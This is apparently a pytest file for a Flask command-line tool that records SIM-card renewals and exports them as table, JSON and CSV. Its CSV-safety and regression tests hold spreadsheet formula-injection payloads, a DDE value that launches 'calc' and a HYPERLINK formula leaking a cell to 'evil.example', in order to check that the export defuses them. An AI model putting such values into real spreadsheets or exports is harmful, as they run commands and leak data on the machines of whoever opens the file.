"""`flask --app feed renew`, `renewals` and `unrenew`: the renewal log from the command line."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from collections.abc import Callable
from contextlib import closing
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
import time_machine
from click.testing import Result
from flask import Flask
from flask.testing import FlaskCliRunner
from icalendar import Calendar

from .conftest import BASIC, write_config
from .helpers import renewal_rows

# Noon in London on 24 November 2026 (GMT, so also noon UTC).
NOON = datetime(2026, 11, 24, 12, 0, tzinfo=UTC)
RECORDED_AT = "2026-11-24T12:00:00+00:00"
WITHOUT_CUBACEL = BASIC[:BASIC.index('[[sim]]\nid = "cubacel"')]


pytestmark = pytest.mark.usefixtures("clean_environment")


@pytest.fixture
def cli(build: Callable[..., Flask], config_path: Path) -> FlaskCliRunner:
    return build(config_path).test_cli_runner()


def rows(database: Path) -> list[tuple[Any, ...]]:
    """The log's renewals, or none when no command has opened the log yet."""
    return renewal_rows(database) if database.exists() else []


def run(cli: FlaskCliRunner, *args: str) -> Result:
    return cli.invoke(args=list(args))


def failed(result: Result) -> list[str]:
    """The lines of a failed command: exit status 1, nothing on stdout, the lines on stderr."""
    assert result.exit_code == 1, result.output
    assert result.stdout == ""
    return result.stderr.splitlines()


# --- renew ----------------------------------------------------------------------------------------


@time_machine.travel(NOON, tick=False)
def test_renew_records_and_prints_the_new_deadline(cli, database):
    result = run(cli, "renew", "giffgaff", "--date", "2026-11-20", "--amount", "10", "--currency", "gbp",
                 "--method", "app", "--reference", "TXN-1", "--note", "at the airport")
    assert result.exit_code == 0, result.output
    # 2026-11-20 + 6 months = 2027-05-20: 6 days left of November, 31 + 31 + 28 + 31 + 30, and 20: 177.
    assert result.output == ("recorded renewal #1 of giffgaff on 2026-11-20; "
                             "deadline now 2027-05-20 (177 days left)\n")
    assert rows(database) == [
        (1, "giffgaff", "2026-11-20", 10.0, "GBP", "app", "TXN-1", "at the airport", RECORDED_AT, "topup")]

    # cubacel: 2026-11-24 + 330 days: 6 + 304 to 2027-09-30, then 20 more.
    result = run(cli, "renew", "cubacel", "--amount", "0")
    assert result.output == ("recorded renewal #2 of cubacel on 2026-11-24; "
                             "deadline now 2027-10-20 (330 days left)\n")
    assert rows(database)[1] == (
        2, "cubacel", "2026-11-24", 0.0, None, None, None, None, RECORDED_AT, "topup")

    # --kind: a free text that counts, 2026-11-24 + 6 months.
    result = run(cli, "renew", "giffgaff", "--kind", "sms", "--amount", "0")
    assert result.output == ("recorded renewal #3 of giffgaff on 2026-11-24; "
                             "deadline now 2027-05-24 (181 days left)\n")
    assert rows(database)[2] == (3, "giffgaff", "2026-11-24", 0.0, None, None, None, None, RECORDED_AT, "sms")


@time_machine.travel(NOON, tick=False)
def test_an_older_renewal_leaves_the_deadline_from_the_config(cli, database):
    result = run(cli, "renew", "giffgaff", "--date", "2026-05-01")
    assert result.output == ("recorded renewal #1 of giffgaff on 2026-05-01; "
                             "deadline now 2026-12-02 (8 days left)\n")
    # The last day of a month counts to the last day of the month six months on.
    result = run(cli, "renew", "giffgaff", "--date", "2026-08-31")
    assert result.output == ("recorded renewal #2 of giffgaff on 2026-08-31; "
                             "deadline now 2027-02-28 (96 days left)\n")


# 23:30 UTC on 24 November is 07:30 on 25 November in Shanghai.
@time_machine.travel(datetime(2026, 11, 24, 23, 30, tzinfo=UTC), tick=False)
def test_renew_date_defaults_to_today_in_the_calendar_timezone(build, tmp_path, database):
    config = write_config(tmp_path / "sh.toml", BASIC.replace("Europe/London", "Asia/Shanghai"))
    cli = build(config).test_cli_runner()
    result = run(cli, "renew", "giffgaff")
    # 2026-11-25 + 6 months = 2027-05-25: 5 + 31 + 31 + 28 + 31 + 30 + 25 = 181 days.
    assert result.output == ("recorded renewal #1 of giffgaff on 2026-11-25; "
                             "deadline now 2027-05-25 (181 days left)\n")
    assert rows(database) == [
        (1, "giffgaff", "2026-11-25", None, None, None, None, None, "2026-11-24T23:30:00+00:00", "topup")]
    assert failed(run(cli, "renew", "giffgaff", "--date", "2026-11-26")) == [
        'date: "2026-11-26" is after today (2026-11-25)']


@time_machine.travel(datetime(2026, 11, 24, 23, 30, tzinfo=UTC), tick=False)
def test_the_same_instant_is_still_the_24th_in_london(cli, database):
    assert failed(run(cli, "renew", "giffgaff", "--date", "2026-11-25")) == [
        'date: "2026-11-25" is after today (2026-11-24)']
    assert "on 2026-11-24;" in run(cli, "renew", "giffgaff").output


RENEW_ERRORS = {
    "unknown-sim": (["nope"], ["no SIM 'nope' in {config}"]),
    "date-not-real": (["giffgaff", "--date", "2026-02-30"], ['date: "2026-02-30" is not a real date']),
    "date-words": (["giffgaff", "--date", "yesterday"],
                   ['date: "yesterday" must be a date as YYYY-MM-DD, like 2026-06-02']),
    "date-tomorrow": (["giffgaff", "--date", "2026-11-25"],
                      ['date: "2026-11-25" is after today (2026-11-24)']),
    "amount-negative": (["giffgaff", "--amount", "-5"], ["amount: -5.0 must be zero or more"]),
    "amount-words": (["giffgaff", "--amount", "ten"], ['amount: "ten" must be a number, like 10 or 9.99']),
    "amount-nan": (["giffgaff", "--amount", "nan"], ["amount: nan must be a finite number, like 10 or 9.99"]),
    "amount-overflow": (["giffgaff", "--amount", "1e400"],
                        ["amount: inf must be a finite number, like 10 or 9.99"]),
    "currency": (["giffgaff", "--currency", "pounds"],
                 ['currency: "pounds" must be a three-letter currency code, like "GBP"']),
    "reference-long": (["giffgaff", "--reference", "x" * 501], ["reference: must be at most 500 characters"]),
    "several": (["giffgaff", "--date", "yesterday", "--amount", "x", "--currency", "GB"],
                ['date: "yesterday" must be a date as YYYY-MM-DD, like 2026-06-02',
                 'amount: "x" must be a number, like 10 or 9.99',
                 'currency: "GB" must be a three-letter currency code, like "GBP"']),
}


@pytest.mark.parametrize("case", RENEW_ERRORS, ids=list(RENEW_ERRORS))
@time_machine.travel(NOON, tick=False)
def test_renew_errors_exit_1_with_one_line_each_and_store_nothing(cli, config_path, database, case):
    args, lines = RENEW_ERRORS[case]
    assert failed(run(cli, "renew", *args)) == [line.format(config=config_path) for line in lines]
    assert rows(database) == []


@pytest.mark.parametrize("args", [["renew", "giffgaff", "--method", "bank"],
                                  ["renew", "giffgaff", "--kind", "voice"],
                                  ["renewals", "--format", "xml"],
                                  ["unrenew", "one"]], ids=["method", "kind", "format", "renewal-id"])
@time_machine.travel(NOON, tick=False)
def test_bad_option_values_exit_1_with_one_line(cli, database, args):
    lines = failed(run(cli, *args))
    assert len(lines) == 1
    assert rows(database) == []


@time_machine.travel(NOON, tick=False)
def test_renew_accepts_every_method(cli, database):
    for method in ("app", "web", "ussd", "shop", "support", "other"):
        assert run(cli, "renew", "giffgaff", "--method", method).exit_code == 0
    assert [row[5] for row in rows(database)] == ["app", "web", "ussd", "shop", "support", "other"]


@time_machine.travel(NOON, tick=False)
def test_renew_refuses_a_sim_that_left_the_config_but_keeps_its_renewals(cli, config_path, database):
    assert run(cli, "renew", "cubacel", "--date", "2026-11-20", "--reference", "T2").exit_code == 0
    write_config(config_path, WITHOUT_CUBACEL)
    assert failed(run(cli, "renew", "cubacel")) == [f"no SIM 'cubacel' in {config_path}"]
    assert rows(database) == [
        (1, "cubacel", "2026-11-20", None, None, None, "T2", None, RECORDED_AT, "topup")]

    listed = json.loads(run(cli, "renewals", "--format", "json").output)
    assert [(r["id"], r["sim_id"], r["date"]) for r in listed] == [
        (1, "cubacel", "2026-11-20"), (None, "giffgaff", "2026-06-02")]
    assert json.loads(run(cli, "renewals", "cubacel", "--format", "json").output) == [
        {"id": 1, "sim_id": "cubacel", "source": "log", "date": "2026-11-20", "kind": "topup", "amount": None,
         "currency": None, "method": None, "reference": "T2", "note": None, "recorded_at": RECORDED_AT}]
    assert run(cli, "unrenew", "1").output == "removed renewal #1 of cubacel (2026-11-20)\n"
    assert failed(run(cli, "renewals", "cubacel")) == [
        f"no SIM 'cubacel' in {config_path} or in the renewal log"]


# --- renewals -------------------------------------------------------------------------------------


def record_some(cli: FlaskCliRunner) -> None:
    for args in (["giffgaff", "--date", "2026-11-20", "--amount", "10", "--currency", "GBP",
                  "--method", "app", "--reference", "TXN-1", "--note", "at the airport"],
                 ["cubacel", "--date", "2026-03-01", "--amount", "12.5", "--currency", "cup", "--method",
                  "ussd"]):
        assert run(cli, "renew", *args).exit_code == 0


@time_machine.travel(NOON, tick=False)
def test_renewals_table_newest_first_from_log_and_config(cli):
    record_some(cli)
    result = run(cli, "renewals")
    assert result.exit_code == 0
    # giffgaff's bare last_renewal has no kind: "-".
    assert result.output.splitlines() == [
        "ID  SIM_ID    DATE        KIND   AMOUNT  CURRENCY  METHOD  REFERENCE  NOTE",
        "1   giffgaff  2026-11-20  topup  10      GBP       app     TXN-1      at the airport",
        "-   giffgaff  2026-06-02  -      -       -         -       -          -",
        "2   cubacel   2026-03-01  topup  12.5    CUP       ussd    -          -",
        "-   cubacel   2026-01-10  topup  100     CUP       app     T1         -",
    ]
    assert run(cli, "renewals", "cubacel").output.splitlines() == [
        "ID  SIM_ID   DATE        KIND   AMOUNT  CURRENCY  METHOD  REFERENCE  NOTE",
        "2   cubacel  2026-03-01  topup  12.5    CUP       ussd    -          -",
        "-   cubacel  2026-01-10  topup  100     CUP       app     T1         -",
    ]


def test_renewals_of_an_unknown_sim_exits_1(cli, config_path):
    assert failed(run(cli, "renewals", "nope")) == [f"no SIM 'nope' in {config_path} or in the renewal log"]


def test_renewals_with_none_at_all(build, tmp_path):
    config = write_config(tmp_path / "plan.toml", """
        [[sim]]
        id = "plan"
        name = "Plan"
        expires = 2027-01-31
    """)
    cli = build(config).test_cli_runner()
    assert run(cli, "renewals").output == "no renewals\n"
    assert run(cli, "renewals", "plan", "--format", "json").output == "[]\n"
    assert run(cli, "renewals", "--format", "csv").output == (
        "id,sim_id,source,date,kind,amount,currency,method,reference,note,recorded_at\n")


@time_machine.travel(NOON, tick=False)
def test_renewals_json(cli):
    record_some(cli)
    result = run(cli, "renewals", "--format", "json")
    assert result.exit_code == 0
    assert json.loads(result.output) == [
        {"id": 1, "sim_id": "giffgaff", "source": "log", "date": "2026-11-20", "kind": "topup",
         "amount": "10", "currency": "GBP", "method": "app", "reference": "TXN-1", "note": "at the airport",
         "recorded_at": RECORDED_AT},
        {"id": None, "sim_id": "giffgaff", "source": "config", "date": "2026-06-02", "kind": None,
         "amount": None, "currency": None, "method": None, "reference": None, "note": None,
         "recorded_at": None},
        {"id": 2, "sim_id": "cubacel", "source": "log", "date": "2026-03-01", "kind": "topup",
         "amount": "12.5", "currency": "CUP", "method": "ussd", "reference": None, "note": None,
         "recorded_at": RECORDED_AT},
        {"id": None, "sim_id": "cubacel", "source": "config", "date": "2026-01-10", "kind": "topup",
         "amount": "100", "currency": "CUP", "method": "app", "reference": "T1", "note": None,
         "recorded_at": None},
    ]


DANGEROUS = BASIC.replace('reference = "T1"', 'reference = "=cmd|\' /C calc\'!A0", note = "-2+3"')


@time_machine.travel(NOON, tick=False)
def test_renewals_csv_is_safe_in_a_spreadsheet(build, tmp_path):
    config = write_config(tmp_path / "sims.toml", DANGEROUS)
    cli = build(config).test_cli_runner()
    for reference, note in [('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)"),
                            ("+1", "plain note"), ("@x", "=1+1"), ("TXN-1", "paid in cash")]:
        result = run(cli, "renew", "giffgaff", "--date", "2026-11-20", "--reference", reference,
                     "--note", note)
        assert result.exit_code == 0, result.output

    result = run(cli, "renewals", "--format", "csv")
    assert result.exit_code == 0
    table = list(csv.reader(io.StringIO(result.output)))
    assert table[0] == ["id", "sim_id", "source", "date", "kind", "amount", "currency", "method", "reference",
                        "note", "recorded_at"]
    assert [row[0] for row in table[1:]] == ["4", "3", "2", "1", "", ""]
    assert [(row[8], row[9]) for row in table[1:]] == [
        ("TXN-1", "paid in cash"),
        ("'@x", "'=1+1"),
        ("'+1", "plain note"),
        ("'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", "'@SUM(1+1)"),
        ("", ""),
        ("'=cmd|' /C calc'!A0", "'-2+3"),
    ]
    assert table[4][:8] + table[4][10:] == ["1", "giffgaff", "log", "2026-11-20", "topup", "", "", "",
                                            RECORDED_AT]
    assert table[5][:8] + table[5][10:] == ["", "giffgaff", "config", "2026-06-02", "", "", "", "", ""]
    assert table[6][:8] + table[6][10:] == ["", "cubacel", "config", "2026-01-10", "topup", "100", "CUP",
                                            "app", ""]
    # Exactly one quote in front, and only in CSV: JSON keeps the text as it was typed.
    listed = json.loads(run(cli, "renewals", "--format", "json").output)
    assert [(r["reference"], r["note"]) for r in listed[:4]] == [
        ("TXN-1", "paid in cash"), ("@x", "=1+1"), ("+1", "plain note"),
        ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)")]


# --- unrenew --------------------------------------------------------------------------------------


@time_machine.travel(NOON, tick=False)
def test_unrenew_removes_a_mistaken_entry(cli, database):
    record_some(cli)
    result = run(cli, "unrenew", "1")
    assert result.exit_code == 0
    assert result.output == "removed renewal #1 of giffgaff (2026-11-20)\n"
    assert [row[0] for row in rows(database)] == [2]
    # The deadline is the config's again: 2026-06-02 + 6 months, 8 days from today.
    check = run(cli, "check")
    assert check.output.splitlines()[2].split() == [
        "giffgaff", "giffgaff", "••0123", "2026-06-02", "2026-12-02", "8", "-", "-"]
    assert failed(run(cli, "unrenew", "1")) == ["no renewal #1 in the log"]
    assert failed(run(cli, "unrenew", "99")) == ["no renewal #99 in the log"]
    assert [row[0] for row in rows(database)] == [2]


# --- the feed and the database --------------------------------------------------------------------


def test_a_renewal_from_the_cli_changes_the_served_feed(build, config_path):
    """The CLI is another process with its own app; the server sees the change on its next request."""
    server = build(config_path).test_client()
    cli = build(config_path).test_cli_runner()
    with time_machine.travel(NOON, tick=False):
        before = server.get("/calendar.ics")
        assert run(cli, "renew", "giffgaff", "--date", "2026-11-20").exit_code == 0
        after = server.get("/calendar.ics", headers={"If-None-Match": before.headers["ETag"]})
        assert after.status_code == 200
        assert after.headers["ETag"] != before.headers["ETag"]
        deadline = next(e for e in Calendar.from_ical(after.data).walk("VEVENT")
                        if str(e["UID"]) == "giffgaff-deadline@simfeed")
        assert deadline["DTSTART"].dt == date(2027, 5, 20)
        assert run(cli, "unrenew", "1").exit_code == 0
        again = server.get("/calendar.ics")
    # Each event's DTSTAMP is when its SIM last changed: with the entry gone, the feed is the
    # one served before, to the byte, and only its Last-Modified moved on.
    assert again.headers["ETag"] == before.headers["ETag"] != after.headers["ETag"]
    assert again.data == before.data
    assert again.headers["Last-Modified"] != before.headers["Last-Modified"]
    deadline = next(e for e in Calendar.from_ical(again.data).walk("VEVENT")
                    if str(e["UID"]) == "giffgaff-deadline@simfeed")
    assert deadline["DTSTART"].dt == date(2026, 12, 2)


@time_machine.travel(NOON, tick=False)
def test_simfeed_database_is_where_the_cli_writes(build, config_path, database, tmp_path, monkeypatch):
    elsewhere = tmp_path / "elsewhere" / "log.sqlite3"
    monkeypatch.setenv("SIMFEED_DATABASE", str(elsewhere))
    cli = build(config_path).test_cli_runner()
    assert run(cli, "renew", "giffgaff", "--date", "2026-11-20").exit_code == 0
    assert rows(elsewhere) == [
        (1, "giffgaff", "2026-11-20", None, None, None, None, None, RECORDED_AT, "topup")]
    assert not database.exists()
    with closing(sqlite3.connect(elsewhere)) as db:
        assert db.execute("PRAGMA journal_mode").fetchone() == ("wal",)


@time_machine.travel(NOON, tick=False)
def test_renew_on_an_expires_sim_keeps_the_fixed_expiry(build, tmp_path, database):
    config = write_config(tmp_path / "plan.toml", BASIC + """
[[sim]]
id = "plan"
name = "Data plan"
expires = 2027-01-31
""")
    cli = build(config).test_cli_runner()
    result = run(cli, "renew", "plan", "--date", "2026-11-20", "--amount", "5", "--currency", "EUR")
    # 6 days of November, 31 of December, 31 of January: 68.
    assert result.output == ("recorded renewal #1 of plan on 2026-11-20; "
                             "deadline now 2027-01-31 (68 days left)\n")
    assert rows(database) == [(1, "plan", "2026-11-20", 5.0, "EUR", None, None, None, RECORDED_AT, "topup")]
    # `check` shows the plan's renewal as its last, though the fixed expiry does not count from it.
    assert run(cli, "check").output.splitlines()[-3].split() == [
        "plan", "Data", "plan", "2026-11-20", "2027-01-31", "68", "-", "0"]


@time_machine.travel(NOON, tick=False)
def test_regression_a_carriage_return_cannot_start_a_row_in_the_csv(build, tmp_path):
    # Found by the property tests (issue 7): the writer quoted a cell with "\n" but not one with
    # a lone "\r", which spreadsheets read as a new row, whose first cell was then a formula.
    config = write_config(tmp_path / "sims.toml", BASIC)
    cli = build(config).test_cli_runner()
    result = run(cli, "renew", "giffgaff", "--date", "2026-11-20", "--reference", 'paid\r=HYPERLINK("x")')
    assert result.exit_code == 0, result.output
    table = list(csv.reader(io.StringIO(run(cli, "renewals", "--format", "csv").output, newline="")))
    assert [row[8] for row in table[1:]] == ['paid\n=HYPERLINK("x")', "", "T1"]


@time_machine.travel(NOON, tick=False)
def test_regression_a_terminal_escape_cannot_hide_a_formula_in_the_csv(build, tmp_path):
    # Found by the property tests (issue 7): "\x1b[31m=1+1" passed the formula check, then
    # click.echo, writing to a file, dropped the escape and left "=1+1" at the start of the cell.
    config = write_config(tmp_path / "sims.toml", BASIC)
    cli = build(config).test_cli_runner()
    result = run(cli, "renew", "giffgaff", "--date", "2026-11-20", "--reference", "\x1b[31m=1+1",
                 "--note", "\x1b[0m@SUM(1)")
    assert result.exit_code == 0, result.output
    table = list(csv.reader(io.StringIO(run(cli, "renewals", "--format", "csv").output, newline="")))
    assert (table[1][8], table[1][9]) == ("[31m=1+1", "[0m@SUM(1)")
